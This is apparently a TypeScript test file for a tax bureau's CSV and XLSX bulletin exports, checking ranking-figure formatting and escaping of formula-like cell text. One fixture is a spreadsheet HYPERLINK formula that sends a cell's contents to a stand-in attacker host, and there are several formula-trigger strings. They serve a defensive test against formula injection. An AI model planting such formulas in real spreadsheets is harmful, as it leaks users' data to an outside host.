import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { bulletinCsv } from './bulletin-csv';
import { BulletinTable, formatCell } from './bulletin-cells';
import { rankingTable } from './bulletin-tables';
import { bulletinXlsx } from './bulletin-xlsx';
import { MonthlySnapshot } from '../statistics.types';
import type { RankedUnit } from '../figures/ranking';

/** A ranking of two units whose negative opinion per size is `v` (incidents ÷ counties, or ÷ population). */
function ranking(sizeBasis: 'counties' | 'population', v: [number, number]): BulletinTable {
  const unit = (code: string, volumePerSize: number) =>
    ({
      code,
      name: code,
      volumePerSize,
      flags: { bottom: false, rise: false },
      previousIncidents: 1,
    }) as RankedUnit;
  const s = { ranking: { sizeBasis, units: [unit('4401', v[0]), unit('4402', v[1])] } };
  return rankingTable(s as unknown as MonthlySnapshot);
}

async function sheetCells(t: BulletinTable, header: string): Promise<ExcelJS.Cell[]> {
  const snapshot = { month: '2026-10', scope: { name: '广东省税务局' }, asOf: '2026-11-01T00:00:00Z' };
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(
    (await bulletinXlsx(snapshot as unknown as MonthlySnapshot, [t])) as unknown as ArrayBuffer,
  );
  const ws = wb.worksheets[0];
  const col = t.columns.findIndex((c) => c.header === header) + 1;
  expect(col).toBeGreaterThan(0);
  return [2, 3].map((r) => ws.getRow(r).getCell(col));
}

/** An explanation text is typed by bureau staff: whatever they wrote lands in the export. */
const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"详见")';
const table: BulletinTable = {
  key: 'tasks',
  title: '情况说明',
  columns: [
    { header: '单位', format: 'text' },
    { header: '说明内容', format: 'text' },
    { header: '环比', format: 'change' },
  ],
  rows: [
    ['@广东省税务局', EVIL, -0.125],
    ['+深圳市税务局', '\t-1+1', 0.5],
  ],
  totalRows: [],
};

describe('bulletin exports', () => {
  it('issue 12 point 10: the CSV writes formula-like text as text and keeps signed figures numeric', () => {
    const records = parse(bulletinCsv(table).toString('utf8'), { bom: true }) as string[][];
    expect(records.slice(1)).toEqual([
      ["'@广东省税务局", `'${EVIL}`, '-12.5%'],
      ["'+深圳市税务局", "'\t-1+1", '+50.0%'],
    ]);
  });

  it('issue 12 point 10: the XLSX holds no cell a spreadsheet would run as a formula', async () => {
    const snapshot = { month: '2026-10', scope: { name: '广东省税务局' }, asOf: '2026-11-01T00:00:00Z' };
    const buf = await bulletinXlsx(snapshot as unknown as MonthlySnapshot, [table]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const values = wb.worksheets[0].getSheetValues().slice(2) as unknown[][];
    expect(values.map((r) => r.slice(1))).toEqual([
      ["'@广东省税务局", `'${EVIL}`, -0.125],
      ["'+深圳市税务局", "'\t-1+1", 0.5],
    ]);
  });

  it('shows negative opinion per county with enough decimals to tell 0.0075 from 0.0088', async () => {
    const t = ranking('counties', [3 / 400, 7 / 800]);
    const col = t.columns.findIndex((c) => c.header === '每县级单位负面舆情');
    expect(t.rows.map((r) => formatCell(r[col], t.columns[col].format))).toEqual(['0.0075', '0.0088']);
    const cells = await sheetCells(t, '每县级单位负面舆情');
    expect(cells.map((c) => c.value)).toEqual([0.0075, 0.00875]); // the figure itself, unrounded
    expect(cells.map((c) => c.numFmt)).toEqual(['0.0000', '0.0000']);
  });

  it('shows negative opinion per 10 000 people when the ranking is by population', async () => {
    const t = ranking('population', [10 / 40_000_000, 3 / 5_000_000]);
    const col = t.columns.findIndex((c) => c.header === '每万人负面舆情');
    expect(t.rows.map((r) => formatCell(r[col], t.columns[col].format))).toEqual(['0.0025', '0.0060']);
    const cells = await sheetCells(t, '每万人负面舆情');
    expect(cells.map((c) => c.numFmt)).toEqual(['0.0000', '0.0000']);
  });
});
